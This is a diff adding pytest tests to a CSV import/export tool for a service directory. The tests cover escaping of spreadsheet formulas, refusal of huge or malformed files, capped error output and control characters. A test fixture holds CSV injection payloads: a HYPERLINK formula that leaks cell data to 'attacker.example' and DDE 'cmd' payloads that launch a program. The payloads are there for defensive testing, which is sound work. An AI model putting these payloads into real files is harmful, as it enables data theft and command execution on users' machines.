@@ -5,7 +5,10 @@ from __future__ import annotations
 import csv
 import io
 import shutil
+import time
+import tracemalloc
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -166,3 +169,114 @@ def test_unknown_region_is_refused(
     assert code == 1
     assert "unknown region 'atlantis'" in capsys.readouterr().err
     assert not (root / "services" / "atlantis.yaml").exists()
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://attacker.example/?leak="&B2,"Insite")',
+    "address": "-2+3+cmd|' /C calc'!A0",
+    "eligibility": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "accessibility": "+cmd|' /C calc'!A0",
+}
+
+
+def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
+    root: Path, tmp_path: Path
+) -> None:
+    """=, +, -, @ cells leave with a leading ' and come back exactly; numbers stay numbers."""
+    rows = _rows(_export(root, tmp_path / "a.csv"))
+    rows[0].update({k: "'" + v for k, v in FORMULAS.items()})  # as our export writes them
+    rows[1]["name"] = "''=already quoted"  # escaped form of a value starting with '=
+    _write_rows(tmp_path / "evil.csv", rows)
+    assert _import(root, tmp_path / "evil.csv") == 0
+    stored = read_services(root / SERVICES, root)
+    assert stored[0].name == FORMULAS["name"]
+    assert stored[0].address == FORMULAS["address"]
+    assert stored[1].name == "'=already quoted"
+
+    exported = _export(root, tmp_path / "b.csv")
+    for row in _rows(exported):
+        for column, cell in row.items():
+            if column not in ("lat", "lon"):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    again = _rows(exported)
+    assert again[0]["name"] == "'" + FORMULAS["name"]
+    assert again[1]["name"] == "''=already quoted"
+    assert again[0]["lon"].startswith("-123.")  # a negative number is not a formula
+    assert _import(root, tmp_path / "b.csv") == 0
+    assert read_services(root / SERVICES, root) == stored
+    assert _export(root, tmp_path / "c.csv") == exported
+
+
+def test_a_million_row_file_is_refused_at_once_in_little_memory(
+    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], record_property: Any
+) -> None:
+    """A million rows are refused before parsing, in under a second and a few MB; a 150 MB
+    file is refused before it is read."""
+    million = tmp_path / "million.csv"
+    million.write_bytes(b"id\n" + b"x\n" * 1_000_000)  # small enough to pass the size check
+    huge = tmp_path / "huge.csv"
+    with huge.open("wb") as handle:
+        handle.truncate(150 * 1024 * 1024)  # sparse: costs no disk
+    before = (root / SERVICES).read_bytes()
+    tracemalloc.start()
+    started = time.perf_counter()
+    assert _import(root, million) == 1
+    assert _import(root, huge) == 1
+    elapsed = time.perf_counter() - started
+    peak = tracemalloc.get_traced_memory()[1] / 1024 / 1024
+    tracemalloc.stop()
+    print(f"csv: a million rows and a 150 MB file refused in {elapsed * 1000:.0f} ms, "
+          f"peak {peak:.1f} MB allocated")
+    record_property("million_rows_refused_ms", round(elapsed * 1000))
+    record_property("million_rows_peak_mb", round(peak, 1))
+    err = capsys.readouterr().err
+    assert "1,000,000 rows" in err and "150.0 MB" in err
+    assert elapsed < 1.0
+    assert peak < 20  # the million-row file itself is 2 MB
+    assert (root / SERVICES).read_bytes() == before
+
+
+@pytest.mark.parametrize("content", [
+    b"id,name\r\nx,\"" + b"a" * 200_000 + b"\"\r\n",  # a cell over the csv module's limit
+    b"id,name\r\nx,\"never closed\r\n" + b"y,z\r\n" * 10,
+    b",".join(b"c%d" % i for i in range(100_000)) + b"\r\n",  # 100,000 columns
+])
+def test_broken_files_get_one_clear_line_not_a_traceback(
+    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes
+) -> None:
+    """A huge cell, an unclosed quote or a 100,000-column header: exit 1 and a short reason."""
+    broken = tmp_path / "broken.csv"
+    broken.write_bytes(content)
+    assert _import(root, broken) == 1
+    err = capsys.readouterr().err
+    assert "nothing was written" in err and "Traceback" not in err
+    assert len(err) < 5_000
+
+
+def test_error_output_is_capped(
+    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Thousands of bad rows: the first 50 problems, then how many more."""
+    rows = _rows(_export(root, tmp_path / "a.csv"))
+    bad = [{**rows[0], "id": f"s{i}", "hours": "whenever"} for i in range(4_000)]
+    _write_rows(tmp_path / "bad.csv", bad)
+    assert _import(root, tmp_path / "bad.csv") == 1
+    lines = capsys.readouterr().err.splitlines()
+    assert len(lines) == 1 + 50 + 1
+    assert lines[-1].strip() == "... and 3,950 more"
+
+
+def test_control_characters_are_refused_and_line_separators_round_trip(
+    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """NUL in a name is refused by row and column; U+2028 is written as valid YAML."""
+    rows = _rows(_export(root, tmp_path / "a.csv"))
+    rows[0]["name"] = "Serv\x00ice"
+    _write_rows(tmp_path / "nul.csv", rows)
+    assert _import(root, tmp_path / "nul.csv") == 1
+    assert "row 2, column name: contains an invisible control character" in (
+        capsys.readouterr().err)
+    rows[0]["name"] = "Insite\u2028Vancouver"
+    _write_rows(tmp_path / "sep.csv", rows)
+    assert _import(root, tmp_path / "sep.csv") == 0
+    assert read_services(root / SERVICES, root)[0].name == "Insite\u2028Vancouver"
